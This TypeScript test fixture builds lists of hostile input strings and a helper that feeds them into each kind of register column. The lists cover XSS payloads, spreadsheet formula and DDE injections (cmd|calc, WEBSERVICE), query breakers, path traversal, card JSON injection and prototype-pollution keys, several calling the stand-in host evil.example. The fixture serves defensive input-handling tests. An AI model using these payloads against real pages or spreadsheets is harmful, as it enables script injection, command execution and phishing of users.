import type { Column } from '../../src/registers/declare.ts';

/** Texts that would be run by a page that takes them for HTML or for an address. */
const scripts: readonly string[] = [
  '<script>document.title="owned"</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror="document.title=\'owned\'">',
  '<svg/onload=document.title="owned">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><button>Save</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"</style>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  "'-alert(1)-'",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** Texts that a spreadsheet would take for a formula. */
export const formulas: readonly string[] = [
  '=HYPERLINK("http://evil.example","Pay now")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc',
  '-2+3+cmd|calc',
  '＝1+1',
  '%0A=1+1',
  '=WEBSERVICE("http://evil.example")',
];

/** Texts that would end a query, an address or a card before its time. */
const breakers: readonly string[] = [
  "' or 1 eq 1 or Title eq '",
  "O'Brien",
  '%27',
  'R & D #1 + more / less ?',
  '../../../Contracts',
  '*:<>?|"',
  '[Pay now](http://evil.example)',
  '<at>Everybody</at>',
  '"}],"actions":[{"type":"Action.OpenUrl","url":"http://evil.example"}]',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'true',
  '[object Object]',
  'CON',
  '👷🏽‍♀️ emoji',
  'x'.repeat(255),
];

/** Text that means harm, or means nothing, in HTML, addresses, queries, spreadsheets and cards. */
export const hostileTexts: readonly string[] = [...scripts, ...formulas, ...breakers];

/** A value of the column's kind; texts are hostile, each column another one of them in each row. */
export function hostileValue(column: Column, row: number, place: number): unknown {
  const text = hostileTexts[(row + place) % hostileTexts.length] ?? '';
  switch (column.kind) {
    case 'text':
      return (column.unique ? `${row} ${text}` : text).slice(0, column.longest ?? 255);
    case 'ref':
      return text.slice(0, 255);
    case 'note':
      return `${text}\n${text}`;
    case 'choice':
      return column.choices[0];
    case 'choices':
      return [column.choices[0]];
    case 'count':
      return row;
    case 'quantity':
      return '1';
    case 'money':
      return 1n;
    case 'day':
      return '2026-11-20';
    case 'yesNo':
      return true;
    case 'person':
      return 'officer-waste@council.example';
  }
}
